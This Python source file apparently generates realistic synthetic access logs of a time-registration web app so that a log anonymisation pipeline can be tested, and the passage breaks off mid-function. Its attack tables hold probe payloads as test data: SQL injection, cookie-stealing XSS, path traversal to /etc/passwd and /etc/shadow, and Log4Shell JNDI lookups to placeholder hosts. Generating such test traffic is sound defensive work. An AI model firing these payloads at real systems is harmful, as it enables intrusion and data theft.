"""Realistic synthetic access logs of a time-registration web application.

`logshroud demo` writes a day of these and ingests it; the benchmark writes a
1,000,000-line log (5,000,000 for the memory bar). Every client address comes from
the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and
2001:db8::/32) and every client host name ends in example.net, so the logs hold
no real person's address. One combined-format line:

    2001:db8:4a1f:7c::3e1 - - [24/Nov/2026:10:15:02 +0100] "GET /api/v1/timesheets?week=2026-W48 HTTP/1.1" 200 5380
      "-" "python-requests/2.32.3"

(one line in the log, folded here).

The same requests can be written in every format logshroud reads (`LogSpec.fmt`): Apache's
`combined`, `common`, `vhost_combined` and `combined_xff`, Caddy's and nginx's JSON lines, AWS
Application and Classic Load Balancer logs, CloudFront standard logs and IIS's W3C extended log
(these two with their header lines), each with the fields and escapes its writer uses.

Besides ordinary traffic a log carries what the pipeline must cope with: personal data
in URLs (e-mail addresses, tokens, an address in a query), attack probes in bursts from
a few clients, `"-" 408 -` lines without a request, and a few broken lines (truncated,
binary garbage with NUL bytes and invalid UTF-8, missing fields, empty).

    python -m pipelines.generate data/raw/access.log.gz --lines 1000000 --day 2026-11-24

Speed comes from never formatting a line on its own: every field is picked with numpy
from a pool of pre-formatted pieces (one timestamp text per second of the day, one
text per status code, ...) and a block of lines is a single `b"".join` over its pieces.
The same spec always gives the same bytes.
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import datetime
import functools
import gzip
import ipaddress
import json
import time
import urllib.parse
import zoneinfo
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO, NamedTuple

import numpy as np

from transforms.parse.escapes import unescape

# Apache's formats, then the other formats logshroud reads, each a renderer of the same requests.
FORMATS = ("combined", "common", "vhost_combined", "combined_xff", "caddy_json", "nginx_json", "aws_alb",
           "aws_elb_classic", "cloudfront", "w3c")  # fmt: skip

# ~12 MB of text: large enough that numpy's per-call cost vanishes, small enough that
# a 5,000,000-line log streams through in bounded memory.
_BLOCK_LINES = 50_000
_SECONDS_PER_DAY = 86_400
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# Apache writes 408 with request line "-" when a client opens a connection and sends
# nothing before the timeout: browsers' pre-connects do this all day long.
_TIMEOUT_SHARE = 0.0008
# Browser users now and then switch device (laptop to phone) behind the same address.
_AGENT_SWITCH_SHARE = 0.03
# Most probes come in bursts from a few clients; the rest are the internet's background noise.
_ATTACK_BURST_SHARE = 0.8
_ATTACK_BURST_MEAN_LINES = 40
_ATTACKERS = 6
# Clients' popularity falls off as rank ** -1.1: a big customer's office NAT sends ~7%
# of its family's requests, most addresses a handful.
_ZIPF_EXPONENT = 1.1
_ZIPF_OFFSET = 3

_BROWSER, _INTEGRATION, _CRAWLER, _MONITOR = range(4)
_KIND_GROUPS = ("browser", "integration", "crawler", "monitor")
_CLIENT_KIND_SHARES = (0.84, 0.09, 0.05, 0.02)

# Columns of the pieces matrix of a block; joined row by row they make the lines.
_VHOST, _CLIENT, _USER, _TIME, _METHOD, _PATH, _ID, _SUFFIX, _QUERY = range(9)
_PROTOCOL, _STATUS, _BYTES, _REFERRER, _AGENT = range(9, 14)
_COLUMNS = 14

_TRUNCATED, _GARBAGE, _MISSING_FIELDS, _EMPTY = range(4)


@dataclass(frozen=True)
class LogSpec:
    """What to generate. Shares are shares of lines (requests), not of clients.

    Events fall on the UTC `day`; the CLF time field shows local time, UTC plus
    `utc_offset_minutes`, with that offset written after it (`+0100`).
    """

    lines: int = 200_000
    day: datetime.date = datetime.date(2026, 11, 24)  # fixed, so that a seed alone decides the bytes
    seed: int = 1
    fmt: str = "combined"
    ipv6_share: float = 0.3
    mapped_share: float = 0.05
    hostname_share: float = 0.0
    attack_share: float = 0.01
    broken_share: float = 0.0005
    utc_offset_minutes: int = 60

    def __post_init__(self) -> None:
        if self.lines < 0:
            raise ValueError(f"lines must be 0 or more, not {self.lines}")
        if self.fmt not in FORMATS:
            raise ValueError(f"fmt must be one of {', '.join(FORMATS)}, not {self.fmt!r}")
        for name in ("ipv6_share", "mapped_share", "hostname_share", "attack_share", "broken_share"):
            if not 0.0 <= getattr(self, name) <= 1.0:
                raise ValueError(f"{name} must lie between 0 and 1, not {getattr(self, name)}")
        if self.ipv6_share + self.mapped_share + self.hostname_share > 1.0:
            raise ValueError("ipv6_share + mapped_share + hostname_share must not exceed 1")
        if abs(self.utc_offset_minutes) >= 24 * 60:
            raise ValueError(f"utc_offset_minutes must lie within a day, not {self.utc_offset_minutes}")

    @property
    def broken_lines(self) -> int:
        header = len(_HEADERS.get(self.fmt, ()))  # header lines are never broken
        return min(round(self.lines * self.broken_share), max(self.lines - header, 0))


@dataclass(frozen=True)
class GeneratedLog:
    path: str
    lines: int
    broken_lines: int
    size_bytes: int


# --- what the application serves -----------------------------------------------------------


class _Route(NamedTuple):
    method: str
    path: str  # "{}" marks where a piece from the `ids` pool goes
    ids: str
    query: str
    status: str
    size: int  # median bytes of a successful response
    spread: float  # lognormal sigma of that size; 0 for a fixed file
    referrer: str
    weights: tuple[float, float, float, float]  # how often browsers, integrations, crawlers, monitors ask


_ROUTES = (
    _Route("GET", "/api/v1/timesheets", "", "week", "read", 5200, 0.5, "app", (14, 10, 0, 0)),
    _Route("GET", "/api/v1/timesheets/{}", "timesheet", "", "read", 2100, 0.4, "app", (10, 6, 0, 0)),
    _Route("PUT", "/api/v1/timesheets/{}", "timesheet", "", "update", 2100, 0.3, "app", (4, 2, 0, 0)),
    _Route("POST", "/api/v1/timesheets/{}/submit", "timesheet", "", "create", 310, 0.2, "app", (1.5, 0.5, 0, 0)),
    _Route("GET", "/api/v1/projects", "", "page", "read", 8600, 0.6, "app", (5, 8, 0, 0)),
    _Route("GET", "/api/v1/projects/{}/entries", "project", "week", "read", 4300, 0.7, "app", (9, 8, 0, 0)),
    _Route("POST", "/api/v1/projects/{}/entries", "project", "", "create", 420, 0.2, "app", (6, 6, 0, 0)),
    _Route("PUT", "/api/v1/entries/{}", "entry", "", "update", 420, 0.2, "app", (4, 2, 0, 0)),
    _Route("DELETE", "/api/v1/entries/{}", "entry", "", "delete", 0, 0.0, "app", (1, 0.5, 0, 0)),
    _Route("GET", "/api/v1/me", "", "", "read", 780, 0.1, "app", (6, 2, 0, 0)),
    _Route("GET", "/api/v1/notifications", "", "unread", "read", 640, 0.8, "app", (6, 0, 0, 0)),
    _Route("POST", "/api/v1/auth/refresh", "", "", "refresh", 540, 0.05, "app", (3, 2, 0, 0)),
    _Route("GET", "/api/v1/reports/hours", "", "report", "read", 48_000, 1.0, "app", (0.8, 3, 0, 0)),
    _Route("GET", "/app/{}", "page", "", "page", 2300, 0.02, "entry", (4, 0, 0, 0)),
    _Route("GET", "/static/app.3f9c2a1b.js", "", "", "static", 412_388, 0.0, "asset", (3, 0, 0, 0)),
    _Route("GET", "/static/vendor.8e41d07c.js", "", "", "static", 1_204_551, 0.0, "asset", (3, 0, 0, 0)),
    _Route("GET", "/static/app.b2c47e90.css", "", "", "static", 58_212, 0.0, "asset", (3, 0, 0, 0)),
    _Route("GET", "/static/fonts/inter-var.a91f3c.woff2", "", "", "static", 318_044, 0.0, "asset", (1, 0, 0, 0)),
    _Route("GET", "/static/img/logo.5c2e0d.svg", "", "", "static", 4182, 0.0, "asset", (2, 0, 0, 0)),
    # the previous build: tabs left open over a deploy still ask for it
    _Route("GET", "/static/app.7d10e5f2.js", "", "", "stale", 409_771, 0.0, "asset", (0.15, 0, 0, 0)),
    _Route("GET", "/favicon.ico", "", "", "favicon", 15_086, 0.0, "asset", (1.5, 0, 0.5, 0)),
    _Route("GET", "/login", "", "next", "page", 3100, 0.02, "entry", (2, 0, 0.6, 0)),
    _Route("POST", "/login", "", "", "login", 3100, 0.02, "login", (0.8, 0.2, 0, 0)),
    _Route("GET", "/logout", "", "", "redirect", 0, 0.0, "app", (0.2, 0, 0, 0)),
    _Route("GET", "/", "", "", "root", 2300, 0.02, "entry", (0.4, 0, 1, 0.5)),
    _Route("HEAD", "/healthz", "", "", "health", 0, 0.0, "none", (0, 0.5, 0, 6)),
    _Route("GET", "/healthz", "", "", "health", 15, 0.0, "none", (0, 1, 0, 2)),
    _Route("GET", "/robots.txt", "", "", "robots", 68, 0.0, "none", (0, 0, 1.5, 0)),
    _Route("GET", "/sitemap.xml", "", "", "robots", 1290, 0.0, "none", (0, 0, 0.5, 0)),
    # personal data in the URL: what the anonymiser must scrub
    _Route("GET", "/api/v1/users/{}", "email", "", "read", 920, 0.1, "app", (0.5, 0.8, 0, 0)),
    _Route("GET", "/api/v1/users", "", "email", "read", 1100, 0.3, "app", (0.3, 0.5, 0, 0)),
    _Route("GET", "/reset-password", "", "reset", "token", 2900, 0.02, "mail", (0.2, 0, 0, 0)),
    _Route("GET", "/api/v1/invitations/accept", "", "token", "token", 610, 0.1, "mail", (0.15, 0, 0, 0)),
    _Route("GET", "/api/v1/admin/audit", "", "ip", "admin", 12_000, 0.8, "app", (0.1, 0.2, 0, 0)),
)

_STATUSES = (200, 201, 204, 206, 301, 302, 304, 400, 401, 403, 404, 405, 408, 409, 410, 422, 429, 500, 502, 503, 504)
_STATUS_PROFILES: dict[str, dict[int, float]] = {
    "read": {
        200: 0.915,
        304: 0.03,
        404: 0.032,
        401: 0.012,
        403: 0.004,
        429: 0.002,
        500: 0.0025,
        502: 0.001,
        503: 0.001,
        504: 0.0005,
    },
    "create": {201: 0.89, 200: 0.02, 400: 0.05, 422: 0.015, 409: 0.008, 401: 0.008, 500: 0.005, 503: 0.004},
    "update": {200: 0.92, 400: 0.03, 409: 0.015, 404: 0.015, 401: 0.01, 500: 0.006, 503: 0.004},
    "delete": {204: 0.93, 404: 0.045, 403: 0.015, 500: 0.01},
    "refresh": {200: 0.9, 401: 0.1},
    "page": {200: 0.87, 304: 0.1, 302: 0.03},
    "static": {200: 0.74, 304: 0.25, 206: 0.005, 404: 0.005},
    "stale": {404: 0.92, 200: 0.08},
    "favicon": {200: 0.7, 304: 0.3},
    "login": {302: 0.8, 200: 0.02, 401: 0.14, 403: 0.03, 429: 0.01},
    "redirect": {302: 1.0},
    "root": {302: 0.9, 200: 0.1},
    "health": {200: 0.998, 503: 0.002},
    "robots": {200: 0.8, 304: 0.2},
    "token": {200: 0.75, 302: 0.08, 400: 0.07, 404: 0.05, 410: 0.05},
    "admin": {200: 0.8, 403: 0.2},
    "probe": {404: 0.86, 403: 0.12, 400: 0.02},
    "injection": {400: 0.45, 403: 0.25, 404: 0.1, 500: 0.1, 200: 0.1},
    "traversal": {400: 0.55, 404: 0.35, 403: 0.1},
    "jndi": {302: 0.35, 200: 0.25, 404: 0.2, 400: 0.2},
    "guessing": {401: 0.93, 429: 0.05, 302: 0.02},
}


class _Agent(NamedTuple):
    text: str  # as Apache writes it: `"` escaped as `\"`, bytes outside printable ASCII as `\xhh`
    group: str
    weight: float


_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
_AGENTS = (
    _Agent(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36", "browser", 30),
    _Agent(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 Edg/131.0.0.0", "browser", 14),
    _Agent(f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36", "browser", 12),
    _Agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 7),
    _Agent("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 2),
    _Agent(
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Safari/605.1.15",
        "browser",
        8,
    ),
    _Agent(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Mobile/15E148 Safari/604.1",
        "browser",
        9,
    ),
    _Agent(
        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.6 Mobile/15E148 Safari/604.1",
        "browser",
        2,
    ),
    _Agent(f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36", "browser", 7),
    _Agent(
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        "browser",
        2,
    ),
    _Agent("ExampleTime/4.12.0 (iPhone; iOS 18.1; Scale/3.00)", "browser", 3),
    _Agent("ExampleTime/4.12.0 (Android 14; Pixel 8)", "browser", 2),
    # a corporate proxy that appends a quoted tag, and a device name outside ASCII
    _Agent(
        f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 \\"Contoso-Proxy/2.1\\"', "browser", 0.4
    ),
    _Agent(
        r"Mozilla/5.0 (Linux; Android 13; \xe5\xb0\x8f\xe7\xb1\xb3 12T) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Mobile Safari/537.36",
        "browser",
        0.3,
    ),
    _Agent(r"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; \"Caf\xc3\xa9 Kiosk\")", "browser", 0.1),
    _Agent("curl/8.5.0", "integration", 2),
    _Agent("python-requests/2.32.3", "integration", 4),
    _Agent("Go-http-client/1.1", "integration", 2),
    _Agent("PostmanRuntime/7.42.0", "integration", 1),
    _Agent("okhttp/4.12.0", "integration", 1),
    _Agent("axios/1.7.7", "integration", 1),
    _Agent("Apache-HttpClient/4.5.14 (Java/17.0.9)", "integration", 1),
    _Agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler", 3),
    _Agent("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "crawler", 2),
    _Agent("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor", 4),
    _Agent("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "crawler", 1),
    _Agent("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "crawler", 1),
    _Agent("-", "monitor", 1),  # a bare health check sends no User-Agent
    _Agent("sqlmap/1.8.11#stable (https://sqlmap.org)", "scanner", 0),
    _Agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "scanner", 0),
    _Agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner", 0),
    _Agent("Mozilla/5.0 zgrab/0.x", "scanner", 0),
    _Agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner", 0),
    _Agent("Mozilla/4.0 (Hydra)", "scanner", 0),
    _Agent("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", "scanner", 0),
    _Agent("${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}", "scanner", 0),
)
_AGENT_INDEX = {agent.text: i for i, agent in enumerate(_AGENTS)}
_NO_AGENT = _AGENT_INDEX["-"]


class _Attack(NamedTuple):
    method: str
    targets: tuple[str, ...]  # request targets as Apache writes them
    agents: tuple[str, ...]
    status: str
    burst_weight: float
    single_weight: float


_SPOOFED_CHROME = _AGENTS[0].text
_ATTACKS = (
    _Attack(
        "GET",
        (
            "/.env",
            "/.git/config",
            "/.git/HEAD",
            "/wp-login.php",
            "/wp-admin/setup-config.php",
            "/xmlrpc.php",
            "/phpmyadmin/index.php",
            "/server-status",
            "/actuator/env",
            "/.aws/credentials",
            "/config.json",
            "/backup.sql",
            "/.DS_Store",
            "/owa/auth/logon.aspx",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/cgi-bin/luci/;stok=/locale",
        ),
        (
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Mozilla/5.0 zgrab/0.x",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            _SPOOFED_CHROME,
        ),
        "probe",
        0.3,
        0.7,
    ),
    _Attack(
        "GET",
        (
            "/api/v1/timesheets?id=1%27%20OR%201=1--",
            "/api/v1/projects?page=1%27%20AND%20SLEEP(5)--",
            "/api/v1/projects/1%20UNION%20SELECT%20username,password%20FROM%20users--/entries",
            "/login?next=%27%3B%20DROP%20TABLE%20users--",
            "/api/v1/timesheets?week=2026-W48%27%20AND%201=CONVERT(int,@@version)--",
            "/api/v1/users?email=admin%40example.com%27%20OR%20%271%27=%271",
        ),
        ("sqlmap/1.8.11#stable (https://sqlmap.org)",),
        "injection",
        0.15,
        0.05,
    ),
    _Attack(
        "GET",
        (
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/app/projects?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
            "/login?next=javascript:alert(1)",
            "/api/v1/projects?sort=%22%3E%3Csvg/onload=alert(1)%3E",
            '/search?q=\\"><script>alert(1)</script>',
        ),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", _SPOOFED_CHROME),
        "injection",
        0.1,
        0.05,
    ),
    _Attack(
        "GET",
        (
            "/../../etc/passwd",
            "/static/..%2f..%2f..%2fetc%2fpasswd",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/api/v1/reports/hours?file=../../../../etc/passwd",
            "/static/....//....//....//etc/shadow",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/..%5c..%5c..%5cwindows%5cwin.ini",
        ),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "curl/8.5.0", _SPOOFED_CHROME),
        "traversal",
        0.1,
        0.1,
    ),
    _Attack(
        "GET",
        ("/", "/login", "/api/v1/me", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"),
        (
            "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
            "${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}",
        ),
        "jndi",
        0.1,
        0.1,
    ),
    _Attack(
        "POST",
        ("/login", "/api/v1/auth/login"),
        ("python-requests/2.32.3", "Mozilla/4.0 (Hydra)", _SPOOFED_CHROME),
        "guessing",
        0.25,
        0.0,
    ),
)

_SERVICE_ACCOUNTS = ("svc-payroll", "svc-exact-sync", "api-afas", "export-bot", "p.bakker@example.com")
_PEOPLE = (
    "jan.jansen",
    "sanne.devries",
    "pieter.bakker",
    "anouk.visser",
    "daan.smit",
    "emma.meijer",
    "lucas.deboer",
    "julia.mulder",
    "sem.degroot",
    "tess.bos",
    "finn.vos",
    "lotte.peters",
    "noah.hendriks",
    "fleur.vandijk",
    "milan.dekker",
    "sophie.vanleeuwen",
    "j.de.vries",
    "m.el-amrani",
)
_MAIL_DOMAINS = ("example.com", "example.com", "example.org", "example.net")
_APP_PAGES = ("timesheets", "projects", "reports", "dashboard", "settings", "approvals", "timesheets/week")

# Requests per hour of local (Amsterdam) time, relative: people register hours in office
# hours, with a dip at lunch and a small evening catch-up; weekends are quiet and flat.
# fmt: off
_WORKDAY_RATE = (0.6, 0.4, 0.3, 0.3, 0.35, 0.6, 1.5, 4, 8, 10, 10, 9.5,  # 00:00-11:59
                 7, 8.5, 9.5, 9.5, 9, 6, 3, 2.2, 2.5, 2.2, 1.5, 1)  # 12:00-23:59
_WEEKEND_RATE = (0.6, 0.4, 0.3, 0.3, 0.3, 0.4, 0.6, 1, 1.5, 2, 2.2, 2.2,
                 2, 2, 2, 2, 1.8, 1.6, 1.5, 1.6, 2, 2, 1.4, 0.9)
# fmt: on

_V4_NETWORKS = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
_V6_DOCUMENTATION = 0x20010DB8 << 96
_V6_SITES = 300


# --- pools of pre-formatted pieces ---------------------------------------------------------


def _objects(items: Sequence[bytes]) -> np.ndarray:
    array = np.empty(len(items), dtype=object)
    array[:] = list(items)
    return array


def _cumulative(weights: Sequence[float] | np.ndarray) -> np.ndarray:
    """Cumulative probabilities that reach exactly 1.0 at the last item with any weight.

    Rounding would otherwise leave the total a hair below 1, and a draw above it would
    pick a trailing item of weight 0.
    """
    weights = np.asarray(weights, dtype=float)
    cum = np.cumsum(weights) / weights.sum()
    cum[np.flatnonzero(weights)[-1] :] = 1.0
    return cum


def _pick(cum: np.ndarray, rng: np.random.Generator, n: int) -> np.ndarray:
    return np.searchsorted(cum, rng.random(n), side="right")


def _draw(cum: np.ndarray, rng: np.random.Generator) -> np.ndarray:
    """One index per row of `cum`, each row its own cumulative distribution."""
    return (rng.random(len(cum))[:, None] >= cum).sum(axis=1)


class _Pool:
    """Pre-formatted pieces and how often each is picked."""

    def __init__(self, items: Sequence[bytes], weights: Sequence[float] | None = None) -> None:
        self.items = _objects(items)
        self.cum = _cumulative(np.ones(len(items)) if weights is None else weights)

    def pick(self, rng: np.random.Generator, n: int) -> np.ndarray:
        return self.items[_pick(self.cum, rng, n)]


def _zipf(n: int) -> np.ndarray:
    return 1.0 / (np.arange(n) + _ZIPF_OFFSET) ** _ZIPF_EXPONENT


def _iso_week(day: datetime.date) -> str:
    year, week, _ = day.isocalendar()
    return f"{year}-W{week:02d}"


def _hex(rng: np.random.Generator, chars: int) -> str:
    return rng.bytes(chars // 2).hex()


def _emails(rng: np.random.Generator) -> list[str]:
    return [f"{person}@{_MAIL_DOMAINS[rng.integers(len(_MAIL_DOMAINS))]}" for person in _PEOPLE]


def _id_pools(rng: np.random.Generator, emails: list[str]) -> dict[str, _Pool]:
    def numbers(low: int, high: int, count: int) -> _Pool:
        chosen = low + rng.choice(high - low, size=count, replace=False)
        return _Pool([b"%d" % v for v in chosen.tolist()], _zipf(count))

    return {
        "timesheet": numbers(41_000, 99_000, 6000),
        "project": numbers(1, 2500, 400),
        "entry": numbers(1_200_000, 9_999_999, 30_000),
        "email": _Pool([e.encode() for e in emails]),
        "page": _Pool([p.encode() for p in _APP_PAGES], (8, 4, 2, 5, 1, 1, 3)),
    }


def _query_pools(rng: np.random.Generator, day: datetime.date, emails: list[str]) -> dict[str, _Pool]:
    weeks = [_iso_week(day - datetime.timedelta(weeks=k)) for k in (0, 1, 2, 3, -1)]
    week_items, week_weights = [b""], [0.15]
    for week, weight in zip(weeks, (0.5, 0.2, 0.07, 0.03, 0.05), strict=True):
        week_items += [f"?week={week}".encode(), f"?week={week}&page=2".encode(), f"?week={week}&page=3".encode()]
        week_weights += [weight * 0.8, weight * 0.15, weight * 0.05]
    month = day.replace(day=1)
    next_month = (month + datetime.timedelta(days=32)).replace(day=1)
    span = f"from={month}&to={next_month - datetime.timedelta(days=1)}"
    tokens = [_hex(rng, 32) for _ in range(60)]
    jwts = [f"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{_hex(rng, 48)}.{_hex(rng, 43)}" for _ in range(20)]
    encoded = [e.replace("@", "%40") for e in emails]
    addresses = ("192.0.2.44", "198.51.100.7", "203.0.113.201", "2001:db8:4a1f:7c::3e1", "2001:db8:c0de::17")
    return {
        "week": _Pool(week_items, week_weights),
        "page": _Pool(
            [b"", b"?page=2", b"?page=3", b"?page=1&per_page=100", b"?sort=name", b"?archived=true"],
            (60, 12, 4, 10, 10, 4),
        ),
        "unread": _Pool([b"", b"?unread=true", b"?limit=20", b"?unread=true&limit=50"], (5, 3, 1, 1)),
        "report": _Pool(
            [
                f"?{span}&format=csv".encode(),
                f"?{span}&format=xlsx".encode(),
                f"?{span}&project=117&format=pdf".encode(),
            ],
            (5, 3, 1),
        ),
        "next": _Pool(
            [
                b"",
                b"?next=%2Fapp%2Ftimesheets",
                f"?next=%2Fapp%2Ftimesheets%3Fweek%3D{weeks[0]}".encode(),
                b"?expired=1",
                b"?lang=nl",
            ],
            (80, 6, 5, 6, 3),
        ),
        "email": _Pool([f"?email={e}".encode() for e in encoded + emails]),
        "reset": _Pool([f"?token={t}&email={encoded[i % len(encoded)]}".encode() for i, t in enumerate(tokens)]),
        "token": _Pool([f"?token={t}".encode() for t in tokens + jwts]),
        "ip": _Pool([f"?ip={a}".encode() for a in addresses] + [f"?ip={a}&{span}".encode() for a in addresses]),
    }


def _referrer_pools(rng: np.random.Generator, day: datetime.date, emails: list[str]) -> dict[str, _Pool]:
    app = "https://app.example.com"
    pools: dict[str, list[tuple[str, float]]] = {
        "none": [("-", 1)],
        "app": [
            (f"{app}/app/timesheets", 5),
            (f"{app}/app/timesheets?week={_iso_week(day)}", 3),
            (f"{app}/app/projects", 3),
            (f"{app}/app/projects/117", 1),
            (f"{app}/app/projects/42", 1),
            (f"{app}/app/reports", 1),
            (f"{app}/app/dashboard", 3),
            (f"{app}/app/settings", 0.5),
            ("-", 1.5),
            (f"{app}/app/users/{emails[0]}", 0.1),
            (f"{app}/reset-password?token={_hex(rng, 32)}&email={emails[1].replace('@', '%40')}", 0.05),
        ],
        "entry": [
            ("-", 50),
            ("https://www.google.com/", 20),
            ("https://www.google.nl/", 8),
            ("https://www.bing.com/", 4),
            ("https://duckduckgo.com/", 3),
            ("https://www.example.com/", 8),
            (f"{app}/app/dashboard", 7),
            (f"{app}/login", 5),
        ],
        "asset": [
            (f"{app}/app/timesheets", 5),
            (f"{app}/app/dashboard", 3),
            (f"{app}/login", 3),
            (f"{app}/app/projects", 2),
            ("-", 0.5),
        ],
        "mail": [
            ("-", 70),
            ("https://outlook.office.com/", 12),
            ("https://mail.google.com/", 10),
            ("https://teams.microsoft.com/", 3),
        ],
        "login": [(f"{app}/login", 9), (f"{app}/login?next=%2Fapp%2Ftimesheets", 1)],
    }
    return {
        name: _Pool([f' "{text}" "'.encode() for text, _ in items], [w for _, w in items])
        for name, items in pools.items()
    }


# --- clients -------------------------------------------------------------------------------


class _Clients(NamedTuple):
    text: np.ndarray  # b"203.0.113.7"
    kind: np.ndarray  # _BROWSER, _INTEGRATION, _CRAWLER or _MONITOR
    user: np.ndarray  # b" - - [" or b" - svc-payroll ["
    agent: np.ndarray  # index into _AGENTS
    protocol: np.ndarray  # b" HTTP/1.1" or b" HTTP/2.0"
    families: list[tuple[int, np.ndarray]]  # (first client, cumulative popularity) of v4, v6, mapped, hostnames


def _ipv4_addresses(rng: np.random.Generator) -> list[str]:
    addresses = [str(a) for net in _V4_NETWORKS for a in ipaddress.IPv4Network(net)]
    return [addresses[i] for i in rng.permutation(len(addresses))]


def _interface_ids(rng: np.random.Generator, n: int) -> list[int]:
    """The low 64 bits of `n` addresses, mixed as hosts pick them."""
    random = rng.integers(0, 1 << 64, size=n, dtype=np.uint64)  # privacy extensions, rotated daily
    mac = rng.integers(0, 1 << 48, size=n, dtype=np.uint64)
    # EUI-64 from a MAC address: ff:fe in the middle, universal/local bit flipped
    eui64 = (
        ((mac >> np.uint64(24)) ^ np.uint64(0x020000)) << np.uint64(40)
        | np.uint64(0xFFFE << 24)
        | (mac & np.uint64(0xFFFFFF))
    )
    by_hand = rng.integers(1, 0x30, size=n, dtype=np.uint64)  # servers and gateways: ::1, ::2f
    draw = rng.random(n)
    return np.where(draw < 0.8, random, np.where(draw < 0.9, eui64, by_hand)).tolist()


def _ipv6_addresses(rng: np.random.Generator) -> list[str]:
    """A few hundred /48 sites with several thousand /64s between them, 1-3 hosts per /64."""
    networks = []  # the upper 64 bits of each /64
    for site in rng.choice(1 << 16, size=_V6_SITES, replace=False).tolist():
        provider = rng.random() < 0.7  # a provider's pool hands out scattered /64s; an office numbers them 0, 1, ...
        count = int(rng.geometric(1 / 16 if provider else 1 / 4))
        subnets = rng.choice(1 << 16, size=count, replace=False).tolist() if provider else range(count)
        networks += [(_V6_DOCUMENTATION >> 64) | site << 16 | subnet for subnet in subnets]
    hosts = rng.integers(1, 4, size=len(networks))
    uppers = np.repeat(np.array(networks, dtype=np.uint64), hosts).tolist()
    values = {upper << 64 | low for upper, low in zip(uppers, _interface_ids(rng, len(uppers)), strict=True)}
    ordered = [ipaddress.IPv6Address(v).compressed for v in sorted(values)]
    return [ordered[i] for i in rng.permutation(len(ordered))]


def _hostnames(rng: np.random.Generator) -> list[str]:
    cities = ("amsterdam", "utrecht", "rotterdam", "eindhoven", "groningen")
    names = {f"host-{i}.example.net" for i in rng.choice(5000, 150, replace=False).tolist()}
    names |= {f"ip-203-0-113-{i}.dyn.example.net" for i in rng.choice(256, 100, replace=False).tolist()}
    names |= {f"vpn-gw{i}.corp.example.net" for i in range(1, 21)}
    names |= {f"{cities[i % 5]}-{i}.fiber.example.net" for i in rng.choice(900, 130, replace=False).tolist()}
    ordered = sorted(names)
    return [ordered[i] for i in rng.permutation(len(ordered))]


@functools.lru_cache(maxsize=4)  # the same clients serve every log of a seed
def _clients_of(seed: int) -> _Clients:
    rng = np.random.default_rng([seed, 2])
    v4 = _ipv4_addresses(rng)
    families = [v4, _ipv6_addresses(rng), [f"::ffff:{a}" for a in v4[:200]], _hostnames(rng)]
    texts = [t.encode() for family in families for t in family]
    n = len(texts)
    kind = _pick(_cumulative(_CLIENT_KIND_SHARES), rng, n)
    agent = np.empty(n, dtype=np.int64)
    for k, group in enumerate(_KIND_GROUPS):
        members = [i for i, a in enumerate(_AGENTS) if a.group == group]
        cum = _cumulative([_AGENTS[i].weight for i in members])
        agent[kind == k] = np.array(members)[_pick(cum, rng, int((kind == k).sum()))]
    authenticated = (kind == _INTEGRATION) & (rng.random(n) < 0.35)
